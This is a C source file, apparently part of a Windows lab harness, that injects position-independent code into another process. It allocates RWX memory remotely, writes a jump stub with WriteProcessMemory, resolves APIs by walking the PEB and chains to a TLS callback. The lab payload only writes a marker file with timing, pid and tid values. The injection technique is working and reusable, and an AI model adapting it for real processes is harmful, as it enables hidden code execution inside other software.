/* inject.c - the injected code itself (section .inj) and inj_place().
 *
 * Everything in section .inj must be position independent: no globals, no
 * string literals, no calls outside .inj. Compiled with -ffreestanding
 * -fno-builtin -fno-jump-tables -fno-stack-protector -mcmodel=small
 * -fno-toplevel-reorder (see setup.sh) so the functions stay in order and
 * only call each other with relative calls. */
#include "inject.h"
#include "lab.h"

#define INJ __attribute__((section(".inj"), noinline, used))

typedef HANDLE(WINAPI *CreateFileA_t)(LPCSTR, DWORD, DWORD, LPSECURITY_ATTRIBUTES, DWORD, DWORD, HANDLE);
typedef BOOL(WINAPI *WriteFile_t)(HANDLE, LPCVOID, DWORD, LPDWORD, LPOVERLAPPED);
typedef BOOL(WINAPI *CloseHandle_t)(HANDLE);
typedef DWORD(WINAPI *GetFileAttributesA_t)(LPCSTR);
typedef void(WINAPI *Sleep_t)(DWORD);
typedef BOOL(WINAPI *RtlQueryPerformanceCounter_t)(LARGE_INTEGER *);

INJ void inj_begin(void) {}

INJ static int inj_streq(const char *a, const char *b)
{
    for (int i = 0; i < 64; i++) {
        if (a[i] != b[i])
            return 0;
        if (!a[i])
            return 1;
    }
    return 0;
}

/* Address of export NAME in the module at BASE, 0 if absent or forwarded. */
INJ static void *inj_export(unsigned char *base, const char *name)
{
    IMAGE_DOS_HEADER *dos = (IMAGE_DOS_HEADER *)base;
    if (dos->e_magic != IMAGE_DOS_SIGNATURE)
        return 0;
    IMAGE_NT_HEADERS64 *nt = (IMAGE_NT_HEADERS64 *)(base + dos->e_lfanew);
    IMAGE_DATA_DIRECTORY dd = nt->OptionalHeader.DataDirectory[IMAGE_DIRECTORY_ENTRY_EXPORT];
    if (!dd.VirtualAddress)
        return 0;
    IMAGE_EXPORT_DIRECTORY *ex = (IMAGE_EXPORT_DIRECTORY *)(base + dd.VirtualAddress);
    DWORD *names = (DWORD *)(base + ex->AddressOfNames);
    WORD *ords = (WORD *)(base + ex->AddressOfNameOrdinals);
    DWORD *funcs = (DWORD *)(base + ex->AddressOfFunctions);
    for (DWORD i = 0; i < ex->NumberOfNames && i < 100000; i++) {
        if (!inj_streq((const char *)(base + names[i]), name))
            continue;
        DWORD rva = funcs[ords[i]];
        if (rva >= dd.VirtualAddress && rva < dd.VirtualAddress + dd.Size)
            return 0; /* forwarder string: look in the next module */
        return base + rva;
    }
    return 0;
}

/* Looks NAME up in every loaded module, in load order. */
INJ static void *inj_resolve(const char *name)
{
    unsigned char *peb;
    __asm__ volatile("movq %%gs:0x60, %0" : "=r"(peb));
    /* PEB->Ldr at +0x18; PEB_LDR_DATA.InLoadOrderModuleList at +0x10 */
    unsigned char *ldr = *(unsigned char **)(peb + 0x18);
    LIST_ENTRY *head = (LIST_ENTRY *)(ldr + 0x10);
    LIST_ENTRY *e = head->Flink;
    for (int n = 0; e != head && n < 256; n++, e = e->Flink) {
        /* LDR_DATA_TABLE_ENTRY.DllBase at +0x30 */
        unsigned char *base = *(unsigned char **)((unsigned char *)e + 0x30);
        if (!base)
            continue;
        void *f = inj_export(base, name);
        if (f)
            return f;
    }
    return 0;
}

INJ static char *inj_cat(char *d, char *end, const char *s)
{
    while (*s && d < end - 1)
        *d++ = *s++;
    *d = 0;
    return d;
}

INJ static char *inj_dec(char *d, char *end, unsigned long long v)
{
    char tmp[24];
    int n = 0;
    do {
        tmp[n++] = (char)('0' + v % 10);
        v /= 10;
    } while (v && n < 23);
    while (n > 0 && d < end - 1)
        *d++ = tmp[--n];
    *d = 0;
    return d;
}

INJ void inj_entry(PVOID module, DWORD reason, PVOID reserved, struct inj_data *d)
{
    if (!d->done && (d->mode == INJ_MODE_APC || reason == DLL_PROCESS_ATTACH)) {
        d->done = 1;
        void *fn[INJ_NFUNCS];
        int ok = 1;
        for (int i = 0; i < INJ_NFUNCS; i++) {
            fn[i] = inj_resolve(d->names[i]);
            if (!fn[i])
                ok = 0;
        }
        if (ok) {
            LARGE_INTEGER qpc;
            ((RtlQueryPerformanceCounter_t)fn[INJ_RtlQueryPerformanceCounter])(&qpc);
            unsigned char *teb;
            __asm__ volatile("movq %%gs:0x30, %0" : "=r"(teb));
            /* TEB.ClientId: UniqueProcess at +0x40, UniqueThread at +0x48 */
            unsigned long long pid = *(unsigned long long *)(teb + 0x40);
            unsigned long long tid = *(unsigned long long *)(teb + 0x48);
            char line[160];
            char *end = line + sizeof line - 1;
            char *p = inj_cat(line, end, d->keys[0]);
            p = inj_dec(p, end, (unsigned long long)qpc.QuadPart);
            p = inj_cat(p, end, d->keys[1]);
            p = inj_dec(p, end, pid);
            p = inj_cat(p, end, d->keys[2]);
            p = inj_dec(p, end, tid);
            p = inj_cat(p, end, d->keys[3]);
            p = inj_cat(p, end, d->who);
            *p++ = '\n';
            HANDLE h = ((CreateFileA_t)fn[INJ_CreateFileA])(d->marker_path, GENERIC_WRITE, FILE_SHARE_READ, 0,
                                                             CREATE_ALWAYS, FILE_ATTRIBUTE_NORMAL, 0);
            if (h != INVALID_HANDLE_VALUE) {
                DWORD done = 0;
                ((WriteFile_t)fn[INJ_WriteFile])(h, line, (DWORD)(p - line), &done, 0);
                ((CloseHandle_t)fn[INJ_CloseHandle])(h);
            }
            /* in-callback checkpoint: wait (bounded) for the runner */
            for (DWORD waited = 0; waited < LAB_TIMEOUT_MS; waited += 10) {
                if (((GetFileAttributesA_t)fn[INJ_GetFileAttributesA])(d->release_path) != INVALID_FILE_ATTRIBUTES)
                    break;
                ((Sleep_t)fn[INJ_Sleep])(10);
            }
        }
    }
    if (d->chain)
        ((PIMAGE_TLS_CALLBACK)d->chain)(module, reason, reserved);
}

INJ void inj_end(void) {}

/* ---- attacker side (ordinary code, not copied) ---- */

static void copy_str(char *dst, size_t n, const char *src)
{
    lab_cat(dst, dst + n, src);
}

ULONG_PTR inj_place(HANDLE process, ULONG_PTR chain, unsigned mode, const char *who, ULONG_PTR *data_out)
{
    static const char *const names[INJ_NFUNCS] = {
        "CreateFileA", "WriteFile", "CloseHandle", "GetFileAttributesA", "Sleep", "RtlQueryPerformanceCounter",
    };
    struct inj_data d;
    unsigned char *raw = (unsigned char *)&d;
    for (size_t i = 0; i < sizeof d; i++)
        raw[i] = 0;
    d.chain = chain;
    d.mode = mode;
    lab_path(d.marker_path, sizeof d.marker_path, "injected");
    lab_path(d.release_path, sizeof d.release_path, "release-callback");
    copy_str(d.who, sizeof d.who, who);
    copy_str(d.keys[0], 8, "qpc=");
    copy_str(d.keys[1], 8, " pid=");
    copy_str(d.keys[2], 8, " tid=");
    copy_str(d.keys[3], 8, " who=");
    for (int i = 0; i < INJ_NFUNCS; i++)
        copy_str(d.names[i], 32, names[i]);

    const unsigned char *code = (const unsigned char *)inj_begin;
    size_t code_len = (size_t)((const unsigned char *)inj_end - code);
    size_t entry_off = (size_t)((const unsigned char *)inj_entry - code);
    if ((const unsigned char *)inj_end <= code || code_len > 0x4000)
        return 0;

    /* layout: [stub 32][code][data], one RWX allocation */
    size_t code_at = 32, data_at = (32 + code_len + 15) & ~(size_t)15;
    size_t total = data_at + sizeof d;
    unsigned char *remote = VirtualAllocEx(process, NULL, total, MEM_COMMIT | MEM_RESERVE, PAGE_EXECUTE_READWRITE);
    if (!remote)
        return 0;
    ULONG_PTR data_va = (ULONG_PTR)remote + data_at;
    ULONG_PTR entry_va = (ULONG_PTR)remote + code_at + entry_off;
    unsigned char stub[32];
    for (int i = 0; i < 32; i++)
        stub[i] = 0xCC;
    stub[0] = 0x49; stub[1] = 0xB9; /* mov r9, imm64 */
    for (int i = 0; i < 8; i++)
        stub[2 + i] = (unsigned char)(data_va >> (8 * i));
    stub[10] = 0x48; stub[11] = 0xB8; /* mov rax, imm64 */
    for (int i = 0; i < 8; i++)
        stub[12 + i] = (unsigned char)(entry_va >> (8 * i));
    stub[20] = 0xFF; stub[21] = 0xE0; /* jmp rax */

    SIZE_T n = 0;
    if (!WriteProcessMemory(process, remote, stub, sizeof stub, &n) ||
        !WriteProcessMemory(process, remote + code_at, code, code_len, &n) ||
        !WriteProcessMemory(process, remote + data_at, &d, sizeof d, &n))
        return 0;
    if (data_out)
        *data_out = data_va;
    return (ULONG_PTR)remote;
}
